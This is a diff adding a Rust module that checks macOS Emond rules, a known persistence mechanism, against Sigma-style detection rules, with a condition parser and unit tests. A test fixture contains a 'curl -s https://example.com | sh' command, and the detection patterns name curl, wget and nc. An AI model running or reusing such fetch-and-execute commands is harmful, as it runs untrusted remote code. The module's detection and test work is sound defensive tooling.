@@ -0,0 +1,830 @@
+//! Match Emond Rules against user defined detection rules
+//!
+//! Detection rules use a Sigma like format in YAML or JSON. Each named selection maps rule fields to values, and a condition
+//! combines the selections:
+//! ```yaml
+//! title: Emond command in a temporary directory
+//! id: emond-tmp-command
+//! level: high
+//! tags: [attack.t1546.014]
+//! detection:
+//!   selection:
+//!     enabled: true
+//!     command|startswith: [/tmp/, /private/tmp/]
+//!   network:
+//!     command_line|contains: [curl, nc]
+//!   filter:
+//!     name: sample rule
+//!   condition: selection and network and not filter
+//! ```
+//! All fields in a selection must match. A list of values matches if any value matches, or every value with the `all`
+//! modifier. A selection can also be a list of field maps, which matches if any map matches.
+//! String comparisons ignore case, regular expressions (`re`) are used as written
+
+use std::{
+    collections::HashMap,
+    fs::{read_dir, read_to_string},
+};
+
+use log::{error, warn};
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use serde_json::{Map, Value};
+
+use crate::{actions::Action, emond::EmondData, error::EmondError};
+
+/// Rule fields detection rules can match on
+pub const DETECTION_FIELDS: [&str; 18] = [
+    "name",
+    "enabled",
+    "event_types",
+    "start_time",
+    "source_file",
+    "rules_directory",
+    "action_type",
+    "command",
+    "arguments",
+    "command_line",
+    "user",
+    "group",
+    "log_message",
+    "email_recipients",
+    "email_subject",
+    "email_message",
+    "notification_name",
+    "notification_message",
+];
+
+/// Detection rule loaded from a YAML or JSON file
+#[derive(Debug, Clone)]
+pub struct DetectionRule {
+    pub title: String,
+    pub id: String,
+    pub description: String,
+    /// Sigma level (ex: low, medium, high or critical)
+    pub level: String,
+    pub tags: Vec<String>,
+    /// File the detection rule was loaded from
+    pub source: String,
+    selections: Vec<Selection>,
+    condition: Condition,
+}
+
+/// Emond Rule matched by a detection rule
+#[derive(Debug, Serialize, PartialEq, Clone)]
+pub struct RuleMatch {
+    pub title: String,
+    pub id: String,
+    pub level: String,
+    pub tags: Vec<String>,
+    /// File the detection rule was loaded from
+    pub detection_source: String,
+    /// Rules file the matched rule was parsed from
+    pub file: String,
+    pub rule_name: String,
+    /// Position of the matched rule within its rules file
+    pub rule_index: usize,
+    /// Selections that matched the rule
+    pub selections: Vec<String>,
+}
+
+// Detection rule as written in the file
+#[derive(Deserialize)]
+struct RawDetectionRule {
+    title: String,
+    #[serde(default)]
+    id: String,
+    #[serde(default)]
+    description: String,
+    #[serde(default)]
+    level: String,
+    #[serde(default)]
+    tags: Vec<String>,
+    detection: Map<String, Value>,
+}
+
+#[derive(Debug, Clone)]
+struct Selection {
+    name: String,
+    /// Field maps of the selection. Every matcher in a map must match
+    alternatives: Vec<Vec<FieldMatcher>>,
+}
+
+#[derive(Debug, Clone)]
+struct FieldMatcher {
+    field: String,
+    patterns: Vec<Pattern>,
+    /// Every pattern must match instead of any pattern
+    all: bool,
+}
+
+#[derive(Debug, Clone)]
+enum Pattern {
+    Equals(String),
+    Contains(String),
+    StartsWith(String),
+    EndsWith(String),
+    Regex(Regex),
+}
+
+#[derive(Debug, Clone, PartialEq)]
+enum Condition {
+    Selection(String),
+    AnyOf(Vec<String>),
+    AllOf(Vec<String>),
+    Not(Box<Condition>),
+    And(Vec<Condition>),
+    Or(Vec<Condition>),
+}
+
+impl DetectionRule {
+    /// Load a detection rule from YAML. `source` labels where the rule came from
+    pub fn from_yaml(data: &str, source: &str) -> Result<DetectionRule, EmondError> {
+        match serde_yaml_ng::from_str(data) {
+            Ok(raw_rule) => DetectionRule::compile(raw_rule, source),
+            Err(err) => Err(detection_error(source, err.to_string())),
+        }
+    }
+
+    /// Load a detection rule from JSON. `source` labels where the rule came from
+    pub fn from_json(data: &str, source: &str) -> Result<DetectionRule, EmondError> {
+        match serde_json::from_str(data) {
+            Ok(raw_rule) => DetectionRule::compile(raw_rule, source),
+            Err(err) => Err(detection_error(source, err.to_string())),
+        }
+    }
+
+    /// Load a detection rule file. Files ending in `.json` are JSON, any other file is YAML
+    pub fn from_file(path: &str) -> Result<DetectionRule, EmondError> {
+        let data = match read_to_string(path) {
+            Ok(result) => result,
+            Err(err) => {
+                error!("Failed to read detection rule {}: {:?}", path, err);
+                return Err(EmondError::Read {
+                    path: path.to_string(),
+                    source: err,
+                });
+            }
+        };
+        if path.ends_with(".json") {
+            DetectionRule::from_json(&data, path)
+        } else {
+            DetectionRule::from_yaml(&data, path)
+        }
+    }
+
+    /// Check if the Emond Rule matches the detection rule
+    pub fn matches(&self, rule: &EmondData) -> bool {
+        self.matched_selections(rule).is_some()
+    }
+
+    // Get the selections that matched, if the condition matches the rule
+    fn matched_selections(&self, rule: &EmondData) -> Option<Vec<String>> {
+        let results: HashMap<&str, bool> = self
+            .selections
+            .iter()
+            .map(|selection| (selection.name.as_str(), selection.matches(rule)))
+            .collect();
+        if !self.condition.evaluate(&results) {
+            return None;
+        }
+        Some(
+            self.selections
+                .iter()
+                .filter(|selection| results[selection.name.as_str()])
+                .map(|selection| selection.name.clone())
+                .collect(),
+        )
+    }
+
+    // Check the fields, values and condition of the rule
+    fn compile(raw_rule: RawDetectionRule, source: &str) -> Result<DetectionRule, EmondError> {
+        let mut detection = raw_rule.detection;
+        let condition = match detection.remove("condition") {
+            Some(Value::String(condition)) => condition,
+            Some(_) => {
+                return Err(detection_error(
+                    source,
+                    String::from("condition is not a string"),
+                ))
+            }
+            None => {
+                return Err(detection_error(
+                    source,
+                    String::from("detection has no condition"),
+                ))
+            }
+        };
+
+        let mut selections: Vec<Selection> = Vec::new();
+        for (name, value) in detection {
+            let maps = match value {
+                Value::Object(map) => vec![map],
+                Value::Array(values) => {
+                    let mut maps = Vec::new();
+                    for value in values {
+                        match value {
+                            Value::Object(map) => maps.push(map),
+                            _ => {
+                                return Err(detection_error(
+                                    source,
+                                    format!("selection {} is not a list of field maps", name),
+                                ))
+                            }
+                        }
+                    }
+                    maps
+                }
+                _ => {
+                    return Err(detection_error(
+                        source,
+                        format!("selection {} is not a field map", name),
+                    ))
+                }
+            };
+
+            let mut alternatives = Vec::new();
+            for map in maps {
+                let mut matchers = Vec::new();
+                for (key, values) in map {
+                    matchers.push(FieldMatcher::compile(&key, values, source)?);
+                }
+                alternatives.push(matchers);
+            }
+            selections.push(Selection { name, alternatives });
+        }
+
+        let names: Vec<&str> = selections
+            .iter()
+            .map(|selection| selection.name.as_str())
+            .collect();
+        let condition = match ConditionParser::parse(&condition, &names) {
+            Ok(result) => result,
+            Err(message) => return Err(detection_error(source, message)),
+        };
+
+        Ok(DetectionRule {
+            title: raw_rule.title,
+            id: raw_rule.id,
+            description: raw_rule.description,
+            level: raw_rule.level,
+            tags: raw_rule.tags,
+            source: source.to_string(),
+            selections,
+            condition,
+        })
+    }
+}
+
+/// Load every `.yml`, `.yaml` and `.json` detection rule in a directory, sorted by file name.
+/// Files that fail to load are returned with their error
+pub fn load_detection_rules(
+    path: &str,
+) -> Result<Vec<Result<DetectionRule, EmondError>>, EmondError> {
+    let read_dir = match read_dir(path) {
+        Ok(dir) => dir,
+        Err(err) => {
+            error!("Failed to read detection rules directory: {:?}", err);
+            return Err(EmondError::Path {
+                path: path.to_string(),
+                source: err,
+            });
+        }
+    };
+
+    let mut rule_paths: Vec<String> = Vec::new();
+    for dir in read_dir {
+        let entry = match dir {
+            Ok(results) => results,
+            Err(err) => {
+                error!(
+                    "Could not get file entry in detection rules directory {}. Issue: {:?}",
+                    path, err
+                );
+                return Err(EmondError::Path {
+                    path: path.to_string(),
+                    source: err,
+                });
+            }
+        };
+        let rule_path = entry.path();
+        let extension = rule_path
+            .extension()
+            .and_then(|extension| extension.to_str());
+        if rule_path.is_file() && matches!(extension, Some("yml" | "yaml" | "json")) {
+            rule_paths.push(rule_path.display().to_string());
+        }
+    }
+    rule_paths.sort();
+
+    Ok(rule_paths
+        .iter()
+        .map(|rule_path| DetectionRule::from_file(rule_path))
+        .collect())
+}
+
+/// Match Emond Rules against detection rules. Matches are in Emond Rule order, then detection rule order
+pub fn match_rules(detection_rules: &[DetectionRule], rules: &[EmondData]) -> Vec<RuleMatch> {
+    let mut matches: Vec<RuleMatch> = Vec::new();
+    for rule in rules {
+        for detection_rule in detection_rules {
+            let selections = match detection_rule.matched_selections(rule) {
+                Some(results) => results,
+                None => continue,
+            };
+            matches.push(RuleMatch {
+                title: detection_rule.title.clone(),
+                id: detection_rule.id.clone(),
+                level: detection_rule.level.clone(),
+                tags: detection_rule.tags.clone(),
+                detection_source: detection_rule.source.clone(),
+                file: rule.source_file.clone(),
+                rule_name: rule.name.clone(),
+                rule_index: rule.rule_index,
+                selections,
+            });
+        }
+    }
+    matches
+}
+
+impl Selection {
+    fn matches(&self, rule: &EmondData) -> bool {
+        self.alternatives
+            .iter()
+            .any(|matchers| matchers.iter().all(|matcher| matcher.matches(rule)))
+    }
+}
+
+impl FieldMatcher {
+    // Parse a selection key (ex: command|contains|all) and its values
+    fn compile(key: &str, values: Value, source: &str) -> Result<FieldMatcher, EmondError> {
+        let mut parts = key.split('|');
+        let field = parts.next().unwrap_or_default();
+        if !DETECTION_FIELDS.contains(&field) {
+            return Err(detection_error(source, format!("unknown field {}", field)));
+        }
+
+        let mut modifier = "equals";
+        let mut all = false;
+        for part in parts {
+            match part {
+                "all" => all = true,
+                "equals" | "contains" | "startswith" | "endswith" | "re" => modifier = part,
+                _ => {
+                    return Err(detection_error(
+                        source,
+                        format!("unknown modifier {} on {}", part, field),
+                    ))
+                }
+            }
+        }
+
+        let values = match values {
+            Value::Array(values) => values,
+            value => vec![value],
+        };
+        let mut patterns = Vec::new();
+        for value in values {
+            let text = match value {
+                Value::String(text) => text,
+                Value::Bool(_) | Value::Number(_) => value.to_string(),
+                Value::Null => String::new(),
+                _ => {
+                    return Err(detection_error(
+                        source,
+                        format!("value of {} is not a string, number or boolean", key),
+                    ))
+                }
+            };
+            let pattern = match modifier {
+                "contains" => Pattern::Contains(text.to_lowercase()),
+                "startswith" => Pattern::StartsWith(text.to_lowercase()),
+                "endswith" => Pattern::EndsWith(text.to_lowercase()),
+                "re" => match Regex::new(&text) {
+                    Ok(regex) => Pattern::Regex(regex),
+                    Err(err) => {
+                        return Err(detection_error(
+                            source,
+                            format!("invalid regex {} on {}: {}", text, field, err),
+                        ))
+                    }
+                },
+                _ => Pattern::Equals(text.to_lowercase()),
+            };
+            patterns.push(pattern);
+        }
+
+        Ok(FieldMatcher {
+            field: field.to_string(),
+            patterns,
+            all,
+        })
+    }
+
+    // A pattern matches if any value of the field matches it
+    fn matches(&self, rule: &EmondData) -> bool {
+        let values = field_values(rule, &self.field);
+        let pattern_matches = |pattern: &Pattern| values.iter().any(|value| pattern.matches(value));
+        if self.all {
+            self.patterns.iter().all(pattern_matches)
+        } else {
+            self.patterns.iter().any(pattern_matches)
+        }
+    }
+}
+
+impl Pattern {
+    fn matches(&self, value: &str) -> bool {
+        match self {
+            Pattern::Equals(text) => value.to_lowercase() == *text,
+            Pattern::Contains(text) => value.to_lowercase().contains(text.as_str()),
+            Pattern::StartsWith(text) => value.to_lowercase().starts_with(text.as_str()),
+            Pattern::EndsWith(text) => value.to_lowercase().ends_with(text.as_str()),
+            Pattern::Regex(regex) => regex.is_match(value),
+        }
+    }
+}
+
+impl Condition {
+    fn evaluate(&self, results: &HashMap<&str, bool>) -> bool {
+        let selected = |name: &String| results.get(name.as_str()).copied().unwrap_or(false);
+        match self {
+            Condition::Selection(name) => selected(name),
+            Condition::AnyOf(names) => names.iter().any(selected),
+            Condition::AllOf(names) => names.iter().all(selected),
+            Condition::Not(condition) => !condition.evaluate(results),
+            Condition::And(conditions) => conditions
+                .iter()
+                .all(|condition| condition.evaluate(results)),
+            Condition::Or(conditions) => conditions
+                .iter()
+                .any(|condition| condition.evaluate(results)),
+        }
+    }
+}
+
+// Recursive descent parser for conditions such as `selection and not (filter or 1 of network*)`
+struct ConditionParser<'a> {
+    tokens: Vec<String>,
+    position: usize,
+    selections: &'a [&'a str],
+}
+
+impl ConditionParser<'_> {
+    fn parse(condition: &str, selections: &[&str]) -> Result<Condition, String> {
+        let tokens = condition
+            .replace('(', " ( ")
+            .replace(')', " ) ")
+            .split_whitespace()
+            .map(str::to_string)
+            .collect();
+        let mut parser = ConditionParser {
+            tokens,
+            position: 0,
+            selections,
+        };
+        let result = parser.or()?;
+        match parser.next() {
+            None => Ok(result),
+            Some(token) => Err(format!("unexpected {} in condition", token)),
+        }
+    }
+
+    fn next(&mut self) -> Option<String> {
+        let token = self.tokens.get(self.position).cloned();
+        self.position += 1;
+        token
+    }
+
+    fn peek(&self) -> Option<&str> {
+        self.tokens.get(self.position).map(String::as_str)
+    }
+
+    fn or(&mut self) -> Result<Condition, String> {
+        let mut conditions = vec![self.and()?];
+        while self.peek() == Some("or") {
+            self.position += 1;
+            conditions.push(self.and()?);
+        }
+        Ok(if conditions.len() == 1 {
+            conditions.remove(0)
+        } else {
+            Condition::Or(conditions)
+        })
+    }
+
+    fn and(&mut self) -> Result<Condition, String> {
+        let mut conditions = vec![self.unary()?];
+        while self.peek() == Some("and") {
+            self.position += 1;
+            conditions.push(self.unary()?);
+        }
+        Ok(if conditions.len() == 1 {
+            conditions.remove(0)
+        } else {
+            Condition::And(conditions)
+        })
+    }
+
+    fn unary(&mut self) -> Result<Condition, String> {
+        let token = match self.next() {
+            Some(token) => token,
+            None => return Err(String::from("condition ends unexpectedly")),
+        };
+        match token.as_str() {
+            "not" => Ok(Condition::Not(Box::new(self.unary()?))),
+            "(" => {
+                let condition = self.or()?;
+                match self.next().as_deref() {
+                    Some(")") => Ok(condition),
+                    _ => Err(String::from("missing ) in condition")),
+                }
+            }
+            "1" | "any" | "all" if self.peek() == Some("of") => {
+                self.position += 1;
+                let pattern = match self.next() {
+                    Some(pattern) => pattern,
+                    None => return Err(format!("missing selections after {} of", token)),
+                };
+                let names = self.selection_pattern(&pattern)?;
+                if token == "all" {
+                    Ok(Condition::AllOf(names))
+                } else {
+                    Ok(Condition::AnyOf(names))
+                }
+            }
+            _ => {
+                if self.selections.contains(&token.as_str()) {
+                    Ok(Condition::Selection(token))
+                } else {
+                    Err(format!("unknown selection {} in condition", token))
+                }
+            }
+        }
+    }
+
+    // Get the selections matched by `them` or a name ending with `*`
+    fn selection_pattern(&self, pattern: &str) -> Result<Vec<String>, String> {
+        let names: Vec<String> = self
+            .selections
+            .iter()
+            .filter(|name| match pattern.strip_suffix('*') {
+                _ if pattern == "them" => true,
+                Some(prefix) => name.starts_with(prefix),
+                None => **name == pattern,
+            })
+            .map(|name| name.to_string())
+            .collect();
+        if names.is_empty() {
+            return Err(format!("no selections match {} in condition", pattern));
+        }
+        Ok(names)
+    }
+}
+
+// Values of a rule field. Fields of actions have a value for every action of that type
+fn field_values(rule: &EmondData, field: &str) -> Vec<String> {
+    let actions = rule.actions.iter().map(|rule_action| &rule_action.action);
+    match field {
+        "name" => vec![rule.name.clone()],
+        "enabled" => vec![rule.enabled.to_string()],
+        "event_types" => rule.event_types.clone(),
+        "start_time" => vec![rule.start_time.clone()],
+        "source_file" => vec![rule.source_file.clone()],
+        "rules_directory" => vec![rule.rules_directory.clone()],
+        "action_type" => actions.map(Action::action_type).collect(),
+        "command" => rule
+            .command_actions()
+            .iter()
+            .map(|command| command.command.clone())
+            .collect(),
+        "arguments" => rule
+            .command_actions()
+            .iter()
+            .flat_map(|command| command.arguements.clone())
+            .collect(),
+        "command_line" => rule
+            .command_actions()
+            .iter()
+            .map(|command| {
+                let mut command_line = vec![command.command.clone()];
+                command_line.extend(command.arguements.iter().cloned());
+                command_line.join(" ")
+            })
+            .collect(),
+        "user" => rule
+            .command_actions()
+            .iter()
+            .map(|command| command.user.clone())
+            .collect(),
+        "group" => rule
+            .command_actions()
+            .iter()
+            .map(|command| command.group.clone())
+            .collect(),
+        "log_message" => rule
+            .log_actions()
+            .iter()
+            .map(|log| log.message.clone())
+            .collect(),
+        "email_recipients" => actions
+            .flat_map(|action| match action {
+                Action::SendEmail(email) => email.recipient_addresses.clone(),
+                Action::SendSms(sms) => sms.recipient_addresses.clone(),
+                _ => Vec::new(),
+            })
+            .collect(),
+        "email_subject" => actions
+            .filter_map(|action| match action {
+                Action::SendEmail(email) => Some(email.subject.clone()),
+                Action::SendSms(sms) => Some(sms.subject.clone()),
+                _ => None,
+            })
+            .collect(),
+        "email_message" => actions
+            .filter_map(|action| match action {
+                Action::SendEmail(email) => Some(email.message.clone()),
+                Action::SendSms(sms) => Some(sms.message.clone()),
+                _ => None,
+            })
+            .collect(),
+        "notification_name" => actions
+            .filter_map(|action| match action {
+                Action::SendNotification(notification) => Some(notification.name.clone()),
+                _ => None,
+            })
+            .collect(),
+        "notification_message" => actions
+            .filter_map(|action| match action {
+                Action::SendNotification(notification) => Some(notification.message.clone()),
+                _ => None,
+            })
+            .collect(),
+        _ => {
+            warn!("[macos-emond] Unknown detection rule field {}", field);
+            Vec::new()
+        }
+    }
+}
+
+fn detection_error(source: &str, message: String) -> EmondError {
+    error!("Failed to load detection rule {}: {}", source, message);
+    EmondError::DetectionRule {
+        path: source.to_string(),
+        message,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::path::PathBuf;
+
+    use crate::{
+        actions::{command::Command, send_email::SendEmail},
+        builder::EmondRuleBuilder,
+        emond::EmondData,
+        error::EmondError,
+    };
+
+    use super::{load_detection_rules, match_rules, Condition, ConditionParser, DetectionRule};
+
+    fn test_rule() -> EmondData {
+        EmondRuleBuilder::new("update rule")
+            .event_type("startup")
+            .run_command(Command {
+                command: String::from("/bin/sh"),
+                arguements: vec![
+                    String::from("-c"),
+                    String::from("curl -s https://example.com | sh"),
+                ],
+                ..Default::default()
+            })
+            .send_email(SendEmail {
+                message: String::from("started"),
+                recipient_addresses: vec![String::from("admin@example.com")],
+                ..Default::default()
+            })
+            .build()
+            .unwrap()
+    }
+
+    #[test]
+    fn test_from_yaml() {
+        let data = "
+title: Shell download
+id: shell-download
+level: high
+tags: [attack.t1546.014]
+detection:
+  shell:
+    command|endswith: /sh
+    enabled: true
+  download:
+    - arguments|contains: [CURL, wget]
+    - arguments|re: 'nc -l \\d+'
+  filter:
+    email_recipients|all: [admin@example.com, soc@example.com]
+  condition: shell and download and not filter
+";
+        let results = DetectionRule::from_yaml(data, "memory").unwrap();
+        assert_eq!(results.title, "Shell download");
+        assert_eq!(results.tags, ["attack.t1546.014"]);
+        assert!(results.matches(&test_rule()));
+
+        let matches = match_rules(&[results], &[test_rule()]);
+        assert_eq!(matches.len(), 1);
+        assert_eq!(matches[0].id, "shell-download");
+        assert_eq!(matches[0].rule_name, "update rule");
+        assert_eq!(matches[0].selections, ["download", "shell"]);
+    }
+
+    #[test]
+    fn test_from_json() {
+        let data = r#"{
+            "title": "Email to admin",
+            "detection": {
+                "selection": {"email_recipients|startswith": "ADMIN@", "action_type": "SendEmail"},
+                "log": {"log_message|contains": "started"},
+                "condition": "all of selection* or log"
+            }
+        }"#;
+        let results = DetectionRule::from_json(data, "memory").unwrap();
+        assert!(results.matches(&test_rule()));
+        assert_eq!(results.level, "");
+    }
+
+    #[test]
+    fn test_invalid_detection_rules() {
+        let test_data = [
+            ("title: a\ndetection:\n  selection:\n    payload: a\n  condition: selection", "unknown field payload"),
+            ("title: a\ndetection:\n  selection:\n    name|near: a\n  condition: selection", "unknown modifier near on name"),
+            ("title: a\ndetection:\n  selection:\n    name|re: '('\n  condition: selection", "invalid regex ( on name"),
+            ("title: a\ndetection:\n  selection:\n    name: a", "detection has no condition"),
+            ("title: a\ndetection:\n  selection:\n    name: a\n  condition: selection and filter", "unknown selection filter in condition"),
+            ("title: a\ndetection:\n  network: a\n  condition: network", "selection network is not a field map"),
+        ];
+        for (data, message) in test_data {
+            let err = DetectionRule::from_yaml(data, "test.yml").unwrap_err();
+            assert!(
+                err.to_string().starts_with(&format!(
+                    "Failed to load detection rule test.yml: {}",
+                    message
+                )),
+                "{}",
+                err
+            );
+            assert!(matches!(err, EmondError::DetectionRule { .. }));
+        }
+        assert!(DetectionRule::from_json("{", "test.json").is_err());
+    }
+
+    #[test]
+    fn test_parse_condition() {
+        let selections = ["selection", "filter_user", "filter_name"];
+        let results =
+            ConditionParser::parse("selection and not (1 of filter* or selection)", &selections)
+                .unwrap();
+        assert_eq!(
+            results,
+            Condition::And(vec![
+                Condition::Selection(String::from("selection")),
+                Condition::Not(Box::new(Condition::Or(vec![
+                    Condition::AnyOf(vec![
+                        String::from("filter_user"),
+                        String::from("filter_name")
+                    ]),
+                    Condition::Selection(String::from("selection")),
+                ]))),
+            ])
+        );
+        assert_eq!(
+            ConditionParser::parse("all of them", &selections).unwrap(),
+            Condition::AllOf(vec![
+                String::from("selection"),
+                String::from("filter_user"),
+                String::from("filter_name")
+            ])
+        );
+        assert!(ConditionParser::parse("(selection", &selections).is_err());
+        assert!(ConditionParser::parse("selection filter_user", &selections).is_err());
+        assert!(ConditionParser::parse("1 of network*", &selections).is_err());
+    }
+
+    #[test]
+    fn test_load_detection_rules() {
+        let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+        test_location.push("tests/test_data/detection_rules");
+        let results = load_detection_rules(&test_location.display().to_string()).unwrap();
+        assert_eq!(results.len(), 3);
+        assert_eq!(results[0].as_ref().unwrap().id, "emond-log-message");
+        assert!(results[1]
+            .as_ref()
+            .unwrap()
+            .source
+            .ends_with("tmp_command.yml"));
+        assert!(results[2].is_err());
+
+        assert!(load_detection_rules("/tmp/macos_emond_missing_dir").is_err());
+    }
+}